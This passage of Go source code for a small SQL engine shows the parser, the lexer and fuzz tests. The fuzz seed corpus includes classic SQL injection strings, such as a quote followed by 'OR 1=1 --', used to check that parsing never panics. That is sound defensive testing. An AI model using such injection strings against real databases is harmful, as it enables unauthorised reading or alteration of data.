		var row []Value
		for {
			v, err := p.literal()
			if err != nil {
				return nil, err
			}
			row = append(row, v)
			t := p.next()
			if t.kind == tokSymbol && t.text == "," {
				continue
			}
			if t.kind == tokSymbol && t.text == ")" {
				break
			}
			return nil, p.errorf("expected ',' or ')' in value list")
		}
		rows = append(rows, row)
		if p.peek().kind == tokSymbol && p.peek().text == "," {
			p.next()
			continue
		}
		break
	}
	return &InsertStmt{Table: name, Rows: rows}, nil
}

func (p *parser) selectStmt() (Stmt, error) {
	p.next() // select
	s := &SelectStmt{Limit: -1}
	if t := p.peek(); t.kind == tokSymbol && t.text == "*" {
		p.next()
		s.Star = true
	} else {
		for {
			item, err := p.selectItem()
			if err != nil {
				return nil, err
			}
			s.Items = append(s.Items, item)
			if p.peek().kind == tokSymbol && p.peek().text == "," {
				p.next()
				continue
			}
			break
		}
	}
	if err := p.expectKeyword("from"); err != nil {
		return nil, err
	}
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	s.Table = name

	if p.peekKeyword("where") {
		p.next()
		w, err := p.whereExpr()
		if err != nil {
			return nil, err
		}
		s.Where = w
	}
	if p.peekKeyword("group") {
		p.next()
		if err := p.expectKeyword("by"); err != nil {
			return nil, err
		}
		col, err := p.ident()
		if err != nil {
			return nil, err
		}
		s.GroupBy = col
	}
	if p.peekKeyword("order") {
		p.next()
		if err := p.expectKeyword("by"); err != nil {
			return nil, err
		}
		col, err := p.ident()
		if err != nil {
			return nil, err
		}
		s.OrderBy = col
		if p.peekKeyword("desc") {
			p.next()
			s.OrderDesc = true
		} else if p.peekKeyword("asc") {
			p.next()
		}
	}
	if p.peekKeyword("limit") {
		p.next()
		t := p.next()
		if t.kind != tokNumber {
			return nil, p.errorf("expected number after LIMIT")
		}
		n := 0
		fmt.Sscanf(t.text, "%d", &n)
		s.Limit = n
	}
	if p.peekKeyword("union") {
		p.next()
		if p.peekKeyword("all") {
			p.next()
			s.UnionAll = true
		}
		if !p.peekKeyword("select") {
			return nil, p.errorf("expected SELECT after UNION")
		}
		rest, err := p.selectStmt()
		if err != nil {
			return nil, err
		}
		s.Union = rest.(*SelectStmt)
	}
	return s, nil
}

func (p *parser) updateStmt() (Stmt, error) {
	p.next() // update
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("set"); err != nil {
		return nil, err
	}
	s := &UpdateStmt{Table: name}
	for {
		col, err := p.ident()
		if err != nil {
			return nil, err
		}
		if err := p.expectSymbol("="); err != nil {
			return nil, err
		}
		v, err := p.literal()
		if err != nil {
			return nil, err
		}
		s.Sets = append(s.Sets, SetClause{Column: col, Value: v})
		if p.peek().kind == tokSymbol && p.peek().text == "," {
			p.next()
			continue
		}
		break
	}
	if p.peekKeyword("where") {
		p.next()
		w, err := p.whereExpr()
		if err != nil {
			return nil, err
		}
		s.Where = w
	}
	return s, nil
}

func (p *parser) deleteStmt() (Stmt, error) {
	p.next() // delete
	if err := p.expectKeyword("from"); err != nil {
		return nil, err
	}
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	s := &DeleteStmt{Table: name}
	if p.peekKeyword("where") {
		p.next()
		w, err := p.whereExpr()
		if err != nil {
			return nil, err
		}
		s.Where = w
	}
	return s, nil
}

func (p *parser) peekKeyword(kw string) bool {
	t := p.peek()
	return t.kind == tokIdent && t.text == kw
}

// whereExpr parses OR-expressions (lowest precedence).
func (p *parser) whereExpr() (WhereExpr, error) {
	l, err := p.andExpr()
	if err != nil {
		return nil, err
	}
	for p.peekKeyword("or") {
		p.next()
		r, err := p.andExpr()
		if err != nil {
			return nil, err
		}
		l = &OrExpr{L: l, R: r}
	}
	return l, nil
}

func (p *parser) andExpr() (WhereExpr, error) {
	l, err := p.notExpr()
	if err != nil {
		return nil, err
	}
	for p.peekKeyword("and") {
		p.next()
		r, err := p.notExpr()
		if err != nil {
			return nil, err
		}
		l = &AndExpr{L: l, R: r}
	}
	return l, nil
}

func (p *parser) notExpr() (WhereExpr, error) {
	if p.peekKeyword("not") {
		p.next()
		x, err := p.notExpr()
		if err != nil {
			return nil, err
		}
		return &NotExpr{X: x}, nil
	}
	if p.peek().kind == tokSymbol && p.peek().text == "(" {
		p.next()
		x, err := p.whereExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expectSymbol(")"); err != nil {
			return nil, err
		}
		return x, nil
	}
	return p.comparison()
}

// selectItem parses one projection entry: col, agg(col), or count(*).
func (p *parser) selectItem() (SelectItem, error) {
	t := p.peek()
	if t.kind != tokIdent {
		return SelectItem{}, p.errorf("expected column or aggregate")
	}
	if fn, ok := aggNames[t.text]; ok {
		// Lookahead for '(' — an identifier named like an aggregate is
		// still a valid column when no parenthesis follows.
		if p.toks[p.i+1].kind == tokSymbol && p.toks[p.i+1].text == "(" {
			p.next() // fn
			p.next() // (
			if fn == AggCount && p.peek().kind == tokSymbol && p.peek().text == "*" {
				p.next()
				if err := p.expectSymbol(")"); err != nil {
					return SelectItem{}, err
				}
				return SelectItem{Agg: AggCountStar}, nil
			}
			col, err := p.ident()
			if err != nil {
				return SelectItem{}, err
			}
			if err := p.expectSymbol(")"); err != nil {
				return SelectItem{}, err
			}
			return SelectItem{Agg: fn, Column: col}, nil
		}
	}
	p.next()
	return SelectItem{Column: t.text}, nil
}

func (p *parser) comparison() (WhereExpr, error) {
	l, err := p.operand()
	if err != nil {
		return nil, err
	}
	if p.peekKeyword("like") {
		p.next()
		v, err := p.literal()
		if err != nil {
			return nil, err
		}
		if v.Type != TText || v.Null {
			return nil, p.errorf("LIKE needs a string pattern")
		}
		return &LikeExpr{X: l, Pattern: v.Text}, nil
	}
	if p.peekKeyword("in") {
		p.next()
		if err := p.expectSymbol("("); err != nil {
			return nil, err
		}
		var vals []Value
		for {
			v, err := p.literal()
			if err != nil {
				return nil, err
			}
			vals = append(vals, v)
			t := p.next()
			if t.kind == tokSymbol && t.text == "," {
				continue
			}
			if t.kind == tokSymbol && t.text == ")" {
				break
			}
			return nil, p.errorf("expected ',' or ')' in IN list")
		}
		return &InExpr{X: l, Vals: vals}, nil
	}
	if p.peekKeyword("between") {
		p.next()
		lo, err := p.literal()
		if err != nil {
			return nil, err
		}
		if err := p.expectKeyword("and"); err != nil {
			return nil, err
		}
		hi, err := p.literal()
		if err != nil {
			return nil, err
		}
		return &BetweenExpr{X: l, Lo: lo, Hi: hi}, nil
	}
	t := p.next()
	if t.kind != tokSymbol {
		return nil, fmt.Errorf("%w: expected comparison operator, got %q (near offset %d)", ErrSyntax, t.text, t.pos)
	}
	switch t.text {
	case "=", "!=", "<>", "<", "<=", ">", ">=":
	default:
		return nil, fmt.Errorf("%w: unknown comparison operator %q (near offset %d)", ErrSyntax, t.text, t.pos)
	}
	r, err := p.operand()
	if err != nil {
		return nil, err
	}
	return &CmpExpr{Op: t.text, L: l, R: r}, nil
}

func (p *parser) operand() (Operand, error) {
	t := p.peek()
	switch t.kind {
	case tokIdent:
		// Keywords cannot be bare operands; anything else is a column name.
		switch t.text {
		case "and", "or", "not", "where", "order", "limit", "null":
			if t.text == "null" {
				p.next()
				return Operand{Lit: NullVal()}, nil
			}
			return Operand{}, p.errorf("expected operand, got keyword %q", t.text)
		}
		p.next()
		return Operand{IsColumn: true, Column: t.text}, nil
	case tokNumber, tokString:
		v, err := p.literal()
		if err != nil {
			return Operand{}, err
		}
		return Operand{Lit: v}, nil
	default:
		return Operand{}, p.errorf("expected operand, got %q", t.text)
	}
}

func (p *parser) literal() (Value, error) {
	t := p.next()
	switch t.kind {
	case tokNumber:
		var n int64
		if _, err := fmt.Sscanf(t.text, "%d", &n); err != nil {
			return Value{}, fmt.Errorf("%w: bad number %q (near offset %d)", ErrSyntax, t.text, t.pos)
		}
		return IntVal(n), nil
	case tokString:
		return TextVal(t.text), nil
	case tokIdent:
		if t.text == "null" {
			return NullVal(), nil
		}
		return Value{}, fmt.Errorf("%w: expected literal, got identifier %q (near offset %d)", ErrSyntax, t.text, t.pos)
	default:
		return Value{}, fmt.Errorf("%w: expected literal, got %q (near offset %d)", ErrSyntax, t.text, t.pos)
	}
}
