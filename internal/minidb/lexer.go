package minidb

import (
	"fmt"
	"strings"
	"unicode"
)

type tokenKind int

const (
	tokEOF tokenKind = iota
	tokIdent
	tokNumber
	tokString
	tokSymbol // punctuation and operators: ( ) , * = != <> < <= > >= ;
)

type token struct {
	kind tokenKind
	text string // identifiers are lower-cased; strings are unquoted
	pos  int    // byte offset in the input, for error messages
}

// lex tokenises an SQL statement. Identifiers and keywords are
// case-insensitive (lower-cased here); string literals use single quotes with
// ” as the escaped quote, matching the SQL the paper's client programs
// assemble by string concatenation.
func lex(input string) ([]token, error) {
	var toks []token
	i := 0
	for i < len(input) {
		c := input[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			i++
		case c == '\'':
			start := i
			i++
			var sb strings.Builder
			closed := false
			for i < len(input) {
				if input[i] == '\'' {
					if i+1 < len(input) && input[i+1] == '\'' {
						sb.WriteByte('\'')
						i += 2
						continue
					}
					i++
					closed = true
					break
				}
				sb.WriteByte(input[i])
				i++
			}
			if !closed {
				return nil, fmt.Errorf("%w: unterminated string at offset %d", ErrSyntax, start)
			}
			toks = append(toks, token{kind: tokString, text: sb.String(), pos: start})
		case c >= '0' && c <= '9' || (c == '-' && i+1 < len(input) && input[i+1] >= '0' && input[i+1] <= '9' && startsValue(toks)):
			start := i
			i++
			for i < len(input) && input[i] >= '0' && input[i] <= '9' {
				i++
			}
			toks = append(toks, token{kind: tokNumber, text: input[start:i], pos: start})
		case isIdentStart(rune(c)):
			start := i
			for i < len(input) && isIdentPart(rune(input[i])) {
				i++
			}
			toks = append(toks, token{kind: tokIdent, text: strings.ToLower(input[start:i]), pos: start})
		case c == '<':
			if i+1 < len(input) && (input[i+1] == '=' || input[i+1] == '>') {
				toks = append(toks, token{kind: tokSymbol, text: input[i : i+2], pos: i})
				i += 2
			} else {
				toks = append(toks, token{kind: tokSymbol, text: "<", pos: i})
				i++
			}
		case c == '>':
			if i+1 < len(input) && input[i+1] == '=' {
				toks = append(toks, token{kind: tokSymbol, text: ">=", pos: i})
				i += 2
			} else {
				toks = append(toks, token{kind: tokSymbol, text: ">", pos: i})
				i++
			}
		case c == '!':
			if i+1 < len(input) && input[i+1] == '=' {
				toks = append(toks, token{kind: tokSymbol, text: "!=", pos: i})
				i += 2
			} else {
				return nil, fmt.Errorf("%w: unexpected '!' at offset %d", ErrSyntax, i)
			}
		case strings.ContainsRune("(),*=;", rune(c)):
			toks = append(toks, token{kind: tokSymbol, text: string(c), pos: i})
			i++
		default:
			return nil, fmt.Errorf("%w: unexpected character %q at offset %d", ErrSyntax, c, i)
		}
	}
	toks = append(toks, token{kind: tokEOF, pos: len(input)})
	return toks, nil
}

// startsValue reports whether a '-' at the current position begins a negative
// number rather than a binary minus; true when the previous token cannot end
// a value expression. The SQL subset has no arithmetic, so the only ambiguity
// is a leading sign.
func startsValue(toks []token) bool {
	if len(toks) == 0 {
		return true
	}
	last := toks[len(toks)-1]
	return last.kind == tokSymbol && last.text != ")"
}

func isIdentStart(r rune) bool {
	return r == '_' || unicode.IsLetter(r)
}

func isIdentPart(r rune) bool {
	return r == '_' || r == '.' || unicode.IsLetter(r) || unicode.IsDigit(r)
}
