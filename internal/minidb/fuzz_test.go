package minidb

import (
	"strings"
	"testing"
)

// FuzzParse feeds arbitrary text to the SQL front end: it must never panic,
// and whatever parses must also execute (or fail cleanly) against a seeded
// schema. Run with `go test -fuzz=FuzzParse ./internal/minidb` to explore;
// the seed corpus runs on every plain `go test`.
func FuzzParse(f *testing.F) {
	seeds := []string{
		"SELECT * FROM t",
		"SELECT a, b FROM t WHERE a = 1 ORDER BY b DESC LIMIT 3",
		"SELECT COUNT(*) FROM t WHERE a IN (1, 2, 3)",
		"SELECT dept, SUM(price) FROM t GROUP BY dept",
		"INSERT INTO t VALUES (1, 'x'), (2, NULL)",
		"UPDATE t SET a = 5 WHERE b LIKE 'x%'",
		"DELETE FROM t WHERE a BETWEEN 1 AND 9",
		"CREATE TABLE u (a INT, b TEXT)",
		"BEGIN", "COMMIT", "ROLLBACK",
		"SELECT * FROM t WHERE a = '1' OR '1'='1'",
		"SELECT * FROM t WHERE NOT (a = 1 AND b != 'x')",
		"' OR 1=1 --", "SELECT", "((((", "SELECT * FROM t WHERE a = 'unterminated",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, query string) {
		stmt, err := Parse(query)
		if err != nil {
			return // rejection is fine; panics are not
		}
		_ = stmt
		db := New()
		db.MustExec("CREATE TABLE t (a INT, b TEXT)")
		db.MustExec("INSERT INTO t VALUES (1, 'x'), (2, 'y')")
		// Execution may fail (unknown table/column) but must not panic.
		if _, err := db.Exec(query); err != nil &&
			!strings.Contains(err.Error(), "minidb:") {
			t.Errorf("non-package error from Exec(%q): %v", query, err)
		}
	})
}

// FuzzLikeMatch checks the LIKE matcher never panics or loops, and that
// wildcard-free patterns behave as equality.
func FuzzLikeMatch(f *testing.F) {
	f.Add("a%c", "abc")
	f.Add("%", "")
	f.Add("_", "x")
	f.Add("a%b%c%", "aXbYcZ")
	f.Fuzz(func(t *testing.T, pattern, s string) {
		got := likeMatch(pattern, s)
		if !strings.ContainsAny(pattern, "%_") {
			if want := pattern == s; got != want {
				t.Errorf("likeMatch(%q, %q) = %v, want %v", pattern, s, got, want)
			}
		}
	})
}
